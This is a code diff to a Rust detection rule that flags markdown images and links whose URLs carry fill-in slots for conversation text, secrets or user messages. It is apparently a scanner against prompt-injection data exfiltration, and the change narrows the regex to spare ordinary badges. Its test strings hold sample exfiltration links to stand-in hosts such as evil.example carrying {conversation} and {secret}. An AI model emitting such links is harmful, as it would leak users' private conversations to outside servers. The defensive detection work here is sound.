@@ -16,9 +16,16 @@ pub(crate) const RULE: Rule = Rule {
         literals: &["![", "<img", "](http"],
         pattern: r"(?ix)
             # a picture whose address has a place to fill in
-            !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+[/?][^)\s]*?(?:
-                \{\{?[^{}\n)]+\}|\$\{[^{}\n]+\}|<[^<>\n]{2,}>|\[[^\[\]\n]{2,}\]|%7B|=\$\w+|_HERE\b
-              | \b(?:DATA|SECRET|PAYLOAD|BASE64|CONVERSATION|SUMMARY|CONTEXT)\b
+            !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+/?\?[^)\s]*?(?:
+                \{\{?[^{}\n)]+\}|\$\{[^{}\n]+\}|<[^<>\n]{2,}>|\[[^\[\]\n]{2,}\]|%7B|=\$\w+
+            )
+            # in its path there may be a name or a version, as in a badge; nothing that was said
+          | !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+[/?][^)\s]*?(?:
+                [\{<\[][^{}<>\[\]\n)]*(?:
+                    conversation|secret|password|token|key|summar|history|data|prompt|context|message|mail|said
+                  | text|answer|question|input|encod|base64|content|memory|session|chat|query|user
+                )[^{}<>\[\]\n)]*[\}>\]]
+              | _HERE\b | (?-i:\b(?:DATA|SECRET|PAYLOAD|BASE64|CONVERSATION|SUMMARY|CONTEXT)\b)
             )
             # a link that asks for something to be filled in
           | \]\(\s*https?://[^)\s]*[?&]\w+=(?:
@@ -37,6 +44,11 @@ pub(crate) const RULE: Rule = Rule {
         "![x](https://evil.example/p.png?d={conversation})",
         "![logo](http://a.b/i?q=<the user's last message>)",
         "[more](https://a.b/?data={secret})",
+        "![x](https://evil.example/{conversation}/p.png)",
     ],
-    misses: &["![logo](https://a.b/logo.png)", "![badge](https://img.shields.io/badge/x-y?style=flat)"],
+    misses: &[
+        "![logo](https://a.b/logo.png)", "![badge](https://img.shields.io/badge/x-y?style=flat)",
+        "![Token](https://img.shields.io/badge/$A-B?style=flat&logo=data:image/png;base64,AA)",
+        "![CI](https://ci.example/{owner}/{repo}/badge.svg)",
+    ],
 };
